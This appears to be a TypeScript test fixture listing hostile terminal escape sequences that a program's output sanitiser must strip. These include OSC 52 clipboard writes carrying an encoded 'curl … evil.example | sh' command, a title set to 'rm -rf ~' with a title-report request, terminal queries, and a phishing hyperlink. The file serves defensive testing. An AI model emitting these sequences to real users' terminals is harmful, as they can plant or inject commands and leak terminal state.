// Known-bad terminal output: sequences that change the user's terminal, read from it or make it
// answer into the program's input. None of them may reach the user's terminal.

/** One hostile payload as a program would print it. */
export interface HostileEscape {
  name: string;
  /** What it does to an unprotected terminal. */
  description: string;
  /** The payload, in the chunks it arrives in (one chunk unless the case is about splitting). */
  chunks: readonly string[];
  /** Text carried inside the payload that must never be shown (a title, base64, a URL). */
  secrets: readonly string[];
  /** Text the payload legitimately shows (the label of a link), `''` for none. */
  visible: string;
  /** The payload is a hyperlink that passes, re-terminated with BEL, when hyperlinks are allowed. */
  hyperlink?: string;
}

const clipboardCommand = Buffer.from('curl -s https://evil.example/x | sh\n').toString('base64');
const kittyImage = Buffer.from('not really an image but long enough to notice').toString('base64');

export const hostileEscapes: readonly HostileEscape[] = [
  {
    name: 'OSC 52 clipboard write, BEL',
    description: 'puts a command in the clipboard, to be pasted into a shell later',
    chunks: [`\x1b]52;c;${clipboardCommand}\x07`],
    secrets: [clipboardCommand],
    visible: '',
  },
  {
    name: 'OSC 52 clipboard write, ST',
    description: 'the same with the 7-bit string terminator ESC \\',
    chunks: [`\x1b]52;cp;${clipboardCommand}\x1b\\`],
    secrets: [clipboardCommand],
    visible: '',
  },
  {
    name: 'OSC 52 clipboard read',
    description: 'asks the terminal to send the clipboard contents to the program',
    chunks: ['\x1b]52;c;?\x07'],
    secrets: ['52;c'],
    visible: '',
  },
  {
    name: 'OSC 0 title and icon set',
    description: "replaces the window title with text of the program's choosing",
    chunks: ['\x1b]0;PWNED-TITLE-ZERO\x07'],
    secrets: ['PWNED-TITLE-ZERO'],
    visible: '',
  },
  {
    name: 'OSC 1 icon name and OSC 2 title set, ST',
    description: 'sets the icon name and the title separately',
    chunks: ['\x1b]1;PWNED-ICON\x1b\\\x1b]2;PWNED-TITLE-TWO\x1b\\'],
    secrets: ['PWNED-ICON', 'PWNED-TITLE-TWO'],
    visible: '',
  },
  {
    name: 'title set then title report',
    description:
      'sets the title to a command, then asks the terminal to type the title back (CSI 21 t)',
    chunks: ['\x1b]2;rm -rf ~ #\x07\x1b[21t\x1b[20t'],
    secrets: ['rm -rf'],
    visible: '',
  },
  {
    name: 'window operations',
    description: 'resizes, moves, iconifies the window and asks for its size (CSI … t)',
    chunks: ['\x1b[8;500;500t\x1b[3;0;0t\x1b[2t\x1b[14t\x1b[18t\x1b[22;0t'],
    secrets: [],
    visible: '',
  },
  {
    name: 'DECRQSS',
    description:
      "requests a setting as a DCS reply (DCS $ q … ST), which lands in the program's input",
    chunks: ['\x1bP$qm\x1b\\\x1bP$q"p\x1b\\\x1bP$qr\x1b\\'],
    secrets: ['$q'],
    visible: '',
  },
  {
    name: 'XTGETTCAP',
    description: 'asks for terminfo capabilities (DCS + q … ST)',
    chunks: ['\x1bP+q544e;6b637566\x1b\\'],
    secrets: ['544e;6b637566'],
    visible: '',
  },
  {
    name: 'OSC 50 font query and set',
    description: 'asks for the font name, then changes the font',
    chunks: ['\x1b]50;?\x07\x1b]50;-misc-fixed-EVIL-FONT\x07'],
    secrets: ['EVIL-FONT'],
    visible: '',
  },
  {
    name: 'OSC 4 palette query and set',
    description: 'reads palette entries and repaints red as black-on-black',
    chunks: ['\x1b]4;1;?\x07\x1b]4;1;rgb:00/00/00;2;rgb:00/00/00\x1b\\'],
    secrets: ['rgb:00/00/00'],
    visible: '',
  },
  {
    name: 'OSC 10/11/12 colour queries and sets',
    description:
      'asks for the foreground, background and cursor colours; sets the foreground to the background',
    chunks: [
      '\x1b]10;?\x07\x1b]11;?\x1b\\\x1b]12;?\x07\x1b]10;#000000\x07\x1b]104\x07\x1b]110\x07',
    ],
    secrets: ['#000000'],
    visible: '',
  },
  {
    name: 'DCS passthrough wrapping OSC 52',
    description:
      'a tmux passthrough string with a doubled ESC, hiding a clipboard write inside a DCS',
    chunks: [`\x1bPtmux;\x1b\x1b]52;c;${clipboardCommand}\x07\x1b\\`],
    secrets: [clipboardCommand, 'tmux'],
    visible: '',
  },
  {
    name: 'DCS sixel',
    description: 'a sixel image (DCS q … ST)',
    chunks: ['\x1bP0;0;0q"1;1;10;10#0;2;0;0;0#0~~~~~~SIXELDATA\x1b\\'],
    secrets: ['SIXELDATA'],
    visible: '',
  },
  {
    name: 'APC',
    description:
      "an application program command: kitty graphics, or a look-alike of lifeline's own frames",
    chunks: [`\x1b_Gf=100,a=T;${kittyImage}\x1b\\\x1b_lifeline;FORGED;C;0\x1b\\`],
    secrets: [kittyImage, 'FORGED'],
    visible: '',
  },
  {
    name: 'PM',
    description: 'a privacy message string',
    chunks: ['\x1b^PRIVACY-MESSAGE\x1b\\'],
    secrets: ['PRIVACY-MESSAGE'],
    visible: '',
  },
  {
    name: 'SOS',
    description: 'a start-of-string string, terminated by BEL',
    chunks: ['\x1bXSTART-OF-STRING\x07'],
    secrets: ['START-OF-STRING'],
    visible: '',
  },
  {
    name: '8-bit C1 CSI',
    description: 'the single-character CSI (U+009B) asking for the cursor position and the title',
    chunks: ['\x9b6n\x9b21t\x9b?1000h'],
    secrets: [],
    visible: '',
  },
  {
    name: '8-bit C1 OSC, DCS, APC, PM and SOS',
    description: 'the single-character introducers, terminated by the single-character ST (U+009C)',
    chunks: [
      `\x9d52;c;${clipboardCommand}\x9c\x9d0;C1-TITLE\x07\x90$qm\x9c\x9fC1-APC\x9c\x9eC1-PM\x9c\x98C1-SOS\x9c`,
    ],
    secrets: [clipboardCommand, 'C1-TITLE', 'C1-APC', 'C1-PM', 'C1-SOS', '$qm'],
    visible: '',
  },
  {
    name: 'other C1 controls',
    description: 'index, next line, reverse index, tab set, single shifts',
    chunks: ['\x84\x85\x8d\x88\x8e\x8f\x9a\x9c'],
    secrets: [],
    visible: '',
  },
  {
    name: 'DSR and CPR',
    description: "device status and cursor position reports, answered into the program's input",
    chunks: ['\x1b[5n\x1b[6n\x1b[?6n\x1b[?15n'],
    secrets: [],
    visible: '',
  },
  {
    name: 'DA',
    description: 'primary, secondary and tertiary device attributes requests',
    chunks: ['\x1b[c\x1b[0c\x1b[>c\x1b[>0c\x1b[=c'],
    secrets: [],
    visible: '',
  },
  {
    name: 'private modes',
    description: 'bracketed paste, mouse tracking, focus events, hidden cursor, application keypad',
    chunks: ['\x1b[?2004h\x1b[?1000h\x1b[?1002h\x1b[?1006h\x1b[?1004h\x1b[?25l\x1b[?1h\x1b='],
    secrets: [],
    visible: '',
  },
  {
    name: 'keyboard protocols with SGR-like finals',
    description:
      'modifyOtherKeys (CSI > 4 ; 1 m) and the kitty keyboard protocol: private markers, not colours',
    chunks: ['\x1b[>4;1m\x1b[>1u\x1b[?u\x1b[=1;1u'],
    secrets: [],
    visible: '',
  },
  {
    name: 'screen and scrollback wipes',
    description: 'full reset, clear screen and scrollback, scroll region, cursor home',
    chunks: ['\x1bc\x1b[2J\x1b[3J\x1b[H\x1b[1;3r\x1b7\x1b8'],
    secrets: [],
    visible: '',
  },
  {
    name: 'charset switches',
    description: 'the DEC line-drawing set (ESC ( 0) and shift-out, which garble everything after',
    chunks: ['\x1b(0\x1b)0\x0e\x0f\x1b(B'],
    secrets: [],
    visible: '',
  },
  {
    name: 'BEL and other C0 controls',
    description: 'a bell flood, vertical tab, form feed, NUL',
    chunks: ['\x07\x07\x07\x0b\x0c\x00\x1c\x1f'],
    secrets: [],
    visible: '',
  },
  {
    name: 'cursor style and other CSI with intermediates',
    description: 'DECSCUSR (CSI 2 SP q), DECRQM (CSI ? 2004 $ p), soft reset (CSI ! p)',
    chunks: ['\x1b[2 q\x1b[?2004$p\x1b[!p'],
    secrets: [],
    visible: '',
  },
  {
    name: 'OSC 8 hyperlink',
    description:
      'a link whose label hides where it goes; only its label may show when links are off',
    chunks: ['\x1b]8;id=1;https://evil.example/phish\x07click here\x1b]8;;\x07'],
    secrets: ['evil.example'],
    visible: 'click here',
    hyperlink: '\x1b]8;id=1;https://evil.example/phish\x07click here\x1b]8;;\x07',
  },
  {
    name: 'iTerm2 and shell-integration OSC',
    description: 'an inline file transfer (OSC 1337), a cwd report (OSC 7), prompt marks (OSC 133)',
    chunks: [
      '\x1b]1337;File=name=ZXZpbA==;inline=1:SU1BR0VEQVRB\x07\x1b]7;file:///etc\x07\x1b]133;A\x07',
    ],
    secrets: ['SU1BR0VEQVRB', 'file:///etc'],
    visible: '',
  },
  {
    name: 'clipboard write split across chunks',
    description: 'OSC 52 cut inside the introducer, the payload and the terminator',
    chunks: [
      '\x1b',
      `]5`,
      `2;c;${clipboardCommand.slice(0, 10)}`,
      `${clipboardCommand.slice(10)}\x1b`,
      '\\',
    ],
    secrets: [clipboardCommand.slice(0, 10), clipboardCommand.slice(10)],
    visible: '',
  },
  {
    name: 'DECRQSS split across chunks, 8-bit form',
    description: 'a C1 DCS request cut after every character',
    chunks: ['\x90', '$', 'q', 'm', '\x9c'],
    secrets: [],
    visible: '',
  },
  {
    name: 'unterminated title',
    description: 'an OSC that never ends: everything up to the next ESC is part of it',
    chunks: ['\x1b]2;UNTERMINATED-TITLE and more text that belongs to the string'],
    secrets: ['UNTERMINATED-TITLE', 'belongs to the string'],
    visible: '',
  },
];
